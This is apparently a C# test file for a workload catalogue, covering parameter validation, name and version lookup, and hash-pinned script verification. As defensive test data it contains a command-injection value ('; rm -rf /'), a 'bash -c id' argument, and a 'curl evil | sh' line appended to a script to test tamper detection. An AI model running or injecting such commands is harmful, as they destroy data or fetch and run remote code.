using System.Collections.Immutable;
using System.Security.Cryptography;
using System.Text;
using Federation.Contracts.Jobs;
using Federation.Execution.Workloads;

namespace Federation.Execution.Tests.Workloads;

[System.Runtime.Versioning.SupportedOSPlatform("linux")]
public sealed class WorkloadCatalogueTests
{
    private static readonly WorkloadDefinition s_train = new()
    {
        Name = "train",
        Version = "1.0",
        Path = "/opt/workloads/train.sh",
        Sha256 = new string('a', 64),
        Parameters = ImmutableSortedDictionary.CreateRange(StringComparer.Ordinal, new Dictionary<string, WorkloadParameter>
        {
            ["epochs"] = new() { Type = WorkloadParameterType.WholeNumber, Required = true, Minimum = 1, Maximum = 100 },
            ["rate"] = new() { Type = WorkloadParameterType.Number, Maximum = 1 },
            ["resume"] = new() { Type = WorkloadParameterType.Boolean },
            ["tag"] = new() { Type = WorkloadParameterType.Text, Pattern = "[a-z0-9-]+", MaxLength = 20 },
        }),
    };

    [Fact]
    public void ArgumentsThatFitTheParameters_PassWithNoErrors()
    {
        var errors = WorkloadCatalogue.CheckArguments(s_train, Arguments(("epochs", "10"), ("rate", "0.5"), ("resume", "true"), ("tag", "run-7")));
        Assert.Empty(errors);
    }

    [Theory]
    [InlineData("epochs", "ten", "must be a whole number, not 'ten'")]
    [InlineData("epochs", "0", "must be at least 1, not 0")]
    [InlineData("epochs", "101", "must be at most 100, not 101")]
    [InlineData("rate", "NaN", "must be a number, not 'NaN'")]
    [InlineData("rate", "1.5", "must be at most 1, not 1.5")]
    [InlineData("resume", "yes", "must be true or false, not 'yes'")]
    [InlineData("tag", "Run 7; rm -rf /", "must match [a-z0-9-]+, not 'Run 7; rm -rf /'")]
    [InlineData("tag", "abcdefghijklmnopqrstuvwxyz", "must be at most 20 characters, not 26")]
    public void AnArgumentOutsideItsParameter_IsNamedWithTheRule(string name, string value, string reason)
    {
        var arguments = Arguments(("epochs", "5"));
        arguments = arguments.SetItem(name, value);
        var error = Assert.Single(WorkloadCatalogue.CheckArguments(s_train, arguments));
        Assert.Equal((name, reason), error);
    }

    [Fact]
    public void UnknownAndMissingArguments_AreBothReported()
    {
        var errors = WorkloadCatalogue.CheckArguments(s_train, Arguments(("command", "bash -c id")));
        Assert.Equal(
            [("command", "train@1.0 has no parameter 'command' (it takes epochs, rate, resume, tag)"), ("epochs", "train@1.0 requires 'epochs' (integer)")],
            errors);
    }

    [Fact]
    public void ASimulatedWorkload_TakesAnyArguments()
    {
        var simulated = new WorkloadDefinition { Name = "demo-train", Version = "1.0" };
        Assert.True(simulated.IsSimulated);
        Assert.Empty(WorkloadCatalogue.CheckArguments(simulated, Arguments(("simulate-fail", "true"))));
    }

    [Fact]
    public void Find_MatchesNameAndVersion()
    {
        var catalogue = new WorkloadCatalogue([s_train, new WorkloadDefinition { Name = "demo-eval", Version = "1.0" }]);
        Assert.Same(s_train, catalogue.Find(new WorkloadCall { Name = "train", Version = "1.0" }));
        Assert.Null(catalogue.Find(new WorkloadCall { Name = "train", Version = "2.0" }));
        Assert.Equal(["demo-eval@1.0", "train@1.0"], catalogue.All.Select(w => w.Key));
    }

    [Fact]
    public async Task TheFileIsVerifiedAgainstItsPin_AndAChangedFileIsNeitherVerifiedNorCopied()
    {
        var ct = TestContext.Current.CancellationToken;
        var directory = Directory.CreateTempSubdirectory("workload-").FullName;
        try
        {
            var path = Path.Combine(directory, "train.sh");
            var content = "#!/bin/sh\necho hello\n";
            await File.WriteAllTextAsync(path, content, ct);
            var pinned = s_train with { Path = path, Sha256 = Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(content))) };
            Assert.Null(await WorkloadCatalogue.VerifyAsync(pinned, ct));
            var copy = Path.Combine(directory, "copy");
            Assert.Null(await WorkloadCatalogue.CopyVerifiedAsync(pinned, copy, ct));
            Assert.Equal(content, await File.ReadAllTextAsync(copy, ct));
            Assert.True(File.GetUnixFileMode(copy).HasFlag(UnixFileMode.OtherExecute));

            await File.AppendAllTextAsync(path, "curl evil | sh\n", ct);
            var mismatch = await WorkloadCatalogue.VerifyAsync(pinned, ct);
            Assert.NotNull(mismatch);
            Assert.Contains($"not the {pinned.Sha256} the allow-list pins", mismatch, StringComparison.Ordinal);
            var refused = Path.Combine(directory, "refused");
            Assert.NotNull(await WorkloadCatalogue.CopyVerifiedAsync(pinned, refused, ct));
            Assert.False(File.Exists(refused));

            var gone = pinned with { Path = Path.Combine(directory, "missing.sh") };
            Assert.Contains("cannot be read", await WorkloadCatalogue.VerifyAsync(gone, ct), StringComparison.Ordinal);
        }
        finally
        {
            Directory.Delete(directory, recursive: true);
        }
    }

    private static ImmutableSortedDictionary<string, string> Arguments(params (string Name, string Value)[] pairs) =>
        pairs.ToImmutableSortedDictionary(p => p.Name, p => p.Value, StringComparer.Ordinal);
}
